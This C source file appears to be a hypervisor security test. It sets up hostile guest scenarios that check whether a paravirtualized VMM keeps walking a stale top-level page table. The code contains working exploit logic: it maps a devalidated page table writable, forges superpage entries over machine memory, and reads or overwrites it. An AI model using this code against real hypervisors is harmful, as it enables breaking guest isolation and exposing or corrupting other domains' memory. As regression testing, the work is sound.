/* a10root (A10; issue 9, finding 1): the CPU must never walk a stale copy of a
 * domain's top-level table.
 *   scenarios=a10root shape=<shape> [slot=511|3] [write=1] [settle_ms=150]
 * The domain runs on X (its bootstrap L4, pinned). A batch devalidates X and
 * revalidates it with new contents S, where S is X with L4 slot `slot` pointing at a
 * new L3 (L3n) instead of the old one (L3o): for slot 511 (the kernel's, the review's
 * shape) L3n is a pinned copy of L3o, for slot 3 L3o is an empty L3 linked there first
 * and L3n another empty one. The base ends where it started (X), so a VMM that
 * recopies its per-CPU root only when the base frame number changes keeps walking
 * X's old contents. L3o has then lost its last type reference and may be mapped
 * writable (legitimately: it is no longer a table of this domain); the guest writes
 * an L3 entry of its choosing into it (index 0: an L2 of 2 MiB entries over machine
 * memory) and reads through it (hostile.c, hx_forged_walk). A safe VMM walks S, where
 * that entry is empty: the read faults. Shapes:
 *   copy          one mmuext_op: UNPIN X; NEW_BASEPTR Y; COPY_PAGE(X <- S); NEW_BASEPTR X
 *   clear         as copy with CLEAR_PAGE X: the base becomes an empty L4, so on a safe
 *                 VMM the domain cannot run any more and is destroyed by its next fetch
 *                 (a VMM that reads the rest of the batch through the cleared X fails
 *                 NEW_BASEPTR X with EFAULT and leaves the base at Y: no stale root)
 *   split         UNPIN X alone, then the other three in a second mmuext_op
 *   continuation  63 TLB_FLUSH_LOCALs and UNPIN X fill the VMM's first 64-element
 *                 piece, the other three run after the continuation
 *   multicall     the four operations as four multicall entries
 *   aba           UNPIN X; Y; X; Y; COPY_PAGE(X <- S); X; Y; X (base changes ABA)
 *   mmuupdate     a multicall: UNPIN X, NEW_BASEPTR Y; an mmu_update of X's L4 entry
 *                 (X validated, not the base); NEW_BASEPTR X
 *   l2level       slot 511, S's L3n also links a copy of the kernel's L2 (L2n): after
 *                 the batch the guest maps L3o writable (dropping its link to the old
 *                 L2, L2o), then L2o, and writes 2 MiB entries into L2o's free half
 *   vcpu1         (vcpus=2) the copy batch made by vCPU 1, which started on X, while
 *                 vCPU 0 runs on Y0 (another copy of Y): the root is shared by the vCPUs
 *                 of the domain and recopied when the running vCPU's base differs
 * Y is X's image with the slot pointing at L3n (slot 511) or empty (slot 3).
 * write=0 only reads what a breach exposes; write=1 (default) also overwrites the
 * sentinel marker pages it finds, so the bystander reports the corruption too. */
#include "hostile.h"

#define KERNEL_SLOT 511
#define SPARE_SLOT 3

static uint64_t img[512];
static struct mmuext_op ops[80];
static struct multicall_entry mc[4];
static struct mmu_update upd;

struct a10 {
    const char *shape;
    int slot;
    unsigned long x;                 /* mfn of the base L4 */
    unsigned long l3o, l3n, y, y0, s; /* pfns */
    unsigned long l2o, l2n, l2f;     /* pfns (l2o/l2n: l2level only) */
    uint64_t forged_va, coverage;
    uint64_t s_entry;                /* S's entry in the slot */
    uint64_t window_pte;             /* machine address of the L1 entry of window TG_SLOT_ATTACK2 */
};

static unsigned long table_pfn(uint64_t entry)
{
    return mfn_to_pfn((entry & PTE_ADDR_MASK) >> 12);
}

/* Builds L3n, Y, S (and L3o for the spare slot, L2n for l2level). */
static int setup(struct a10 *a)
{
    a->x = pt_l4_mfn();
    hx_l4_image(img);
    if (a->slot == SPARE_SLOT) {
        if (img[SPARE_SLOT] != 0) {
            result_fail("setup", "L4[%d] is not empty: %lx", SPARE_SLOT, (unsigned long)img[SPARE_SLOT]);
            return 0;
        }
        a->l3o = hx_frame();
        if (!hx_step("zero L3o", hx_fill(a->l3o, 0)) || !hx_step("pin L3o", mmuext_pin(3, hx_mfn(a->l3o))) ||
            !hx_step("link L3o", pt_update_one(((uint64_t)a->x << 12) + SPARE_SLOT * 8, hx_link(a->l3o))) ||
            !hx_step("unpin L3o", mmuext_unpin(hx_mfn(a->l3o))))
            return 0;
        hx_l4_image(img);
        a->l3n = hx_frame();
        if (!hx_step("zero L3n", hx_fill(a->l3n, 0)) || !hx_step("pin L3n", mmuext_pin(3, hx_mfn(a->l3n))))
            return 0;
        a->forged_va = HX_SLOT_VA(SPARE_SLOT);
    } else {
        a->l3o = table_pfn(img[KERNEL_SLOT]);
        static uint64_t l3[512];
        memcpy(l3, pfn_to_virt(a->l3o), sizeof l3);
        if (l3[0] != 0) {
            result_fail("setup", "the kernel's L3[0] is not empty");
            return 0;
        }
        if (strcmp(a->shape, "l2level") == 0) {
            int k = PT_INDEX(RW_VIRT_BASE, 3);
            a->l2o = table_pfn(l3[k]);
            a->l2n = hx_frame();
            if (!hx_step("copy L2n", hx_fill(a->l2n, pfn_to_virt(a->l2o))) ||
                !hx_step("pin L2n", mmuext_pin(2, hx_mfn(a->l2n))))
                return 0;
            l3[k] = (l3[k] & ~PTE_ADDR_MASK) | ((uint64_t)hx_mfn(a->l2n) << 12);
        }
        a->l3n = hx_frame();
        if (!hx_step("copy L3n", hx_fill(a->l3n, l3)) || !hx_step("pin L3n", mmuext_pin(3, hx_mfn(a->l3n))))
            return 0;
        a->forged_va = 0xFFFFFF8000000000UL;   /* L4 511, L3 index 0 */
    }
    a->coverage = 1UL << 30;
    uint64_t old = img[a->slot];
    img[a->slot] = a->slot == SPARE_SLOT ? 0 : (old & ~PTE_ADDR_MASK) | ((uint64_t)hx_mfn(a->l3n) << 12);
    a->y = hx_frame();
    a->y0 = hx_frame();
    if (!hx_step("fill Y", hx_fill(a->y, img)) || !hx_step("fill Y0", hx_fill(a->y0, img)))
        return 0;
    img[a->slot] = a->slot == SPARE_SLOT ? hx_link(a->l3n) : img[a->slot];
    a->s_entry = img[a->slot];
    a->s = hx_frame();
    if (!hx_step("fill S", hx_fill(a->s, img)))
        return 0;
    a->window_pte = pt_l1_entry_maddr((unsigned long)window_va(TG_SLOT_ATTACK2));
    if (!a->window_pte) {
        result_fail("setup", "no bootstrap L1 entry for window slot %d", TG_SLOT_ATTACK2);
        return 0;
    }
    a->l2f = hx_frame();
    hx_superpage_l2(img, 0);
    return hx_step("fill the forged L2", hx_fill(a->l2f, img));
}

static long run_batch(struct a10 *a, rw_u32 *done)
{
    unsigned long x = a->x, y = hx_mfn(a->y), s = hx_mfn(a->s);
    const char *sh = a->shape;
    unsigned int n = 0;
    *done = 0;
    if (strcmp(sh, "copy") == 0 || strcmp(sh, "l2level") == 0 || strcmp(sh, "clear") == 0 ||
        strcmp(sh, "vcpu1") == 0) {
        ops[n++] = hx_op(MMUEXT_UNPIN_TABLE, x, 0);
        ops[n++] = hx_op(MMUEXT_NEW_BASEPTR, y, 0);
        ops[n++] = strcmp(sh, "clear") == 0 ? hx_op(MMUEXT_CLEAR_PAGE, x, 0) : hx_op(MMUEXT_COPY_PAGE, x, s);
        ops[n++] = hx_op(MMUEXT_NEW_BASEPTR, x, 0);
        return hx_ops(ops, n, done);
    }
    if (strcmp(sh, "split") == 0) {
        long rc = hx_op1(MMUEXT_UNPIN_TABLE, x, 0);
        if (rc)
            return rc;
        ops[n++] = hx_op(MMUEXT_NEW_BASEPTR, y, 0);
        ops[n++] = hx_op(MMUEXT_COPY_PAGE, x, s);
        ops[n++] = hx_op(MMUEXT_NEW_BASEPTR, x, 0);
        return hx_ops(ops, n, done);
    }
    if (strcmp(sh, "continuation") == 0) {
        while (n < 63)
            ops[n++] = hx_op(MMUEXT_TLB_FLUSH_LOCAL, 0, 0);
        ops[n++] = hx_op(MMUEXT_UNPIN_TABLE, x, 0);
        ops[n++] = hx_op(MMUEXT_NEW_BASEPTR, y, 0);
        ops[n++] = hx_op(MMUEXT_COPY_PAGE, x, s);
        ops[n++] = hx_op(MMUEXT_NEW_BASEPTR, x, 0);
        return hx_ops(ops, n, done);
    }
    if (strcmp(sh, "aba") == 0) {
        ops[n++] = hx_op(MMUEXT_UNPIN_TABLE, x, 0);
        ops[n++] = hx_op(MMUEXT_NEW_BASEPTR, y, 0);
        ops[n++] = hx_op(MMUEXT_NEW_BASEPTR, x, 0);
        ops[n++] = hx_op(MMUEXT_NEW_BASEPTR, y, 0);
        ops[n++] = hx_op(MMUEXT_COPY_PAGE, x, s);
        ops[n++] = hx_op(MMUEXT_NEW_BASEPTR, x, 0);
        ops[n++] = hx_op(MMUEXT_NEW_BASEPTR, y, 0);
        ops[n++] = hx_op(MMUEXT_NEW_BASEPTR, x, 0);
        return hx_ops(ops, n, done);
    }
    if (strcmp(sh, "multicall") == 0 || strcmp(sh, "mmuupdate") == 0) {
        int updating = strcmp(sh, "mmuupdate") == 0;
        ops[0] = hx_op(MMUEXT_UNPIN_TABLE, x, 0);
        ops[1] = hx_op(MMUEXT_NEW_BASEPTR, y, 0);
        ops[2] = hx_op(MMUEXT_COPY_PAGE, x, s);
        ops[3] = hx_op(MMUEXT_NEW_BASEPTR, x, 0);
        unsigned int e = 0;
        hx_mc_ext(&mc[e++], &ops[0], 1);
        hx_mc_ext(&mc[e++], &ops[1], 1);
        if (updating) {
            /* X's slot rewritten by mmu_update while X is validated but not the base. */
            upd.ptr = (((uint64_t)x << 12) + (uint64_t)a->slot * 8) | MMU_NORMAL_PT_UPDATE;
            upd.val = a->s_entry;
            memset(&mc[e], 0, sizeof mc[e]);
            mc[e].op = __HYPERVISOR_mmu_update;
            mc[e].args[0] = (uint64_t)&upd;
            mc[e].args[1] = 1;
            mc[e].args[3] = DOMID_SELF;
            e++;
        } else {
            hx_mc_ext(&mc[e++], &ops[2], 1);
        }
        hx_mc_ext(&mc[e++], &ops[3], 1);
        long rc = HYPERVISOR_multicall(mc, e);
        for (unsigned int i = 0; i < e; i++)
            if ((long)mc[i].result == 0)
                (*done)++;
        return rc;
    }
    result_fail("shape", "unknown shape \"%s\"", sh);
    return -RW_EINVAL;
}

/* Maps table pfn writable at the window slot with an mmu_update of the window's L1
 * entry (found before the batch: update_va_mapping walks the base, which the clear
 * shape empties): NULL when the VMM refuses (it is still a table). */
static volatile uint64_t *map_table_writable(const struct a10 *a, const char *what, unsigned long pfn)
{
    long rc = pt_update_one(a->window_pte, ((uint64_t)hx_mfn(pfn) << 12) | PTE_KERNEL_RW);
    if (rc == 0)
        invlpg_local((unsigned long)window_va(TG_SLOT_ATTACK2));
    else   /* (nothing is printed before the probe: console output may end the slice) */
        printf("testguest: a10root: mapping %s (mfn %lx) writable: %s\n", what, hx_mfn(pfn), rc_name(rc));
    return rc == 0 ? window_va(TG_SLOT_ATTACK2) : 0;
}

static void unmap_window(const struct a10 *a)
{
    pt_update_one(a->window_pte, virt_to_machine(window_va(TG_SLOT_ATTACK2)) | PTE_KERNEL_RW);
    invlpg_local((unsigned long)window_va(TG_SLOT_ATTACK2));
}

static void exploit(struct a10 *a, int write)
{
    char check[48];
    snprintf(check, sizeof check, "%s.forged_walk", a->shape);
    volatile uint64_t *t = map_table_writable(a, "the old L3", a->l3o);
    if (!t) {
        result_ok(check);   /* the old L3 is still a table: nothing to forge */
        return;
    }
    if (strcmp(a->shape, "l2level") == 0) {
        unmap_window(a);   /* L3o is devalidated now: L2o lost that link */
        t = map_table_writable(a, "the old L2", a->l2o);
        if (!t) {
            result_ok(check);
            return;
        }
        /* The upper half of the kernel's L2 (0xFFFFFFFFA0000000..) over machine memory [0, 512 MiB). */
        for (int i = 0; i < 256; i++)
            t[256 + i] = ((uint64_t)i << 21) | PTE_P | PTE_RW | PTE_A | PTE_D | PTE_PS;
        tlb_flush_local();
        hx_forged_walk(check, RW_VIRT_BASE + (256UL << 21), 256UL << 21, write);
        for (int i = 0; i < 256; i++)
            t[256 + i] = 0;
    } else {
        t[0] = hx_link(a->l2f);
        tlb_flush_local();
        hx_forged_walk(check, a->forged_va, a->coverage, write);
        t[0] = 0;
    }
    unmap_window(a);
    tlb_flush_local();
}

static volatile int v1_done, v1_go;
static int v1_write;
static char v1_stack[16384] __attribute__((aligned(16)));

static void attack(struct a10 *a, int write)
{
    rw_u32 done;
    long rc = run_batch(a, &done);
    exploit(a, write);
    printf("testguest: a10root shape=%s slot=%d: batch answered %s, %u done\n", a->shape, a->slot, rc_name(rc), done);
}

static void v1_main(uint64_t arg)
{
    hx_load_traps();
    while (!v1_go)
        HYPERVISOR_sched_op(SCHEDOP_yield, 0);
    attack((struct a10 *)arg, v1_write);
    v1_done = 1;
    HYPERVISOR_vcpu_op(VCPUOP_up, 0, 0);
    HYPERVISOR_vcpu_op(VCPUOP_down, 1, 0);
    for (;;)
        HYPERVISOR_sched_op(SCHEDOP_yield, 0);
}

/* vcpu1: vCPU 1 starts on X, vCPU 0 moves to Y0, then takes itself down (so that it
 * does not run, and recopy the root, in the middle of the attack) until vCPU 1 is done
 * and brings it up again. */
static void attack_from_vcpu1(struct a10 *a, int write)
{
    v1_write = write;
    if (!hx_step("start vCPU 1", vcpu_start(1, v1_main, v1_stack + sizeof v1_stack, (uint64_t)a)))
        return;
    if (!hx_step("vCPU 0 to Y0", hx_op1(MMUEXT_NEW_BASEPTR, hx_mfn(a->y0), 0)))
        return;
    v1_go = 1;
    if (!hx_step("vCPU 0 down", HYPERVISOR_vcpu_op(VCPUOP_down, 0, 0)))
        return;
    uint64_t end = system_time_ns() + 3000000000UL;
    while (!v1_done && system_time_ns() < end)
        HYPERVISOR_sched_op(SCHEDOP_yield, 0);
    check_true("vcpu1.finished", v1_done, "vCPU 1 did not finish its attack in 3 s");
}

void scenario_a10root(struct start_info *si)
{
    static char shape[24];
    if (cmdline_get(si, "shape", shape, sizeof shape) < 0)
        memcpy(shape, "copy", 5);
    struct a10 a;
    memset(&a, 0, sizeof a);
    a.shape = shape;
    a.slot = (int)cmdline_get_long(si, "slot", KERNEL_SLOT);
    if (strcmp(shape, "l2level") == 0 || strcmp(shape, "vcpu1") == 0)
        a.slot = KERNEL_SLOT;
    if (a.slot != KERNEL_SLOT && a.slot != SPARE_SLOT) {
        result_fail("slot", "slot=%d: 511 or 3", a.slot);
        return;
    }
    int write = (int)cmdline_get_long(si, "write", 1);
    frames_free();   /* the bootstrap walk happens now, while the tables are the bootstrap ones */
    if (!hx_handlers() || !setup(&a))
        return;
    hx_machine_frames();
    hx_settle((unsigned long)cmdline_get_long(si, "settle_ms", 150));
    if (strcmp(shape, "clear") == 0) {
        /* From here a safe VMM runs this domain on an empty L4: it is destroyed. */
        result_ok("clear.attempt");
    }
    if (strcmp(shape, "vcpu1") == 0)
        attack_from_vcpu1(&a, write);
    else
        attack(&a, write);
}
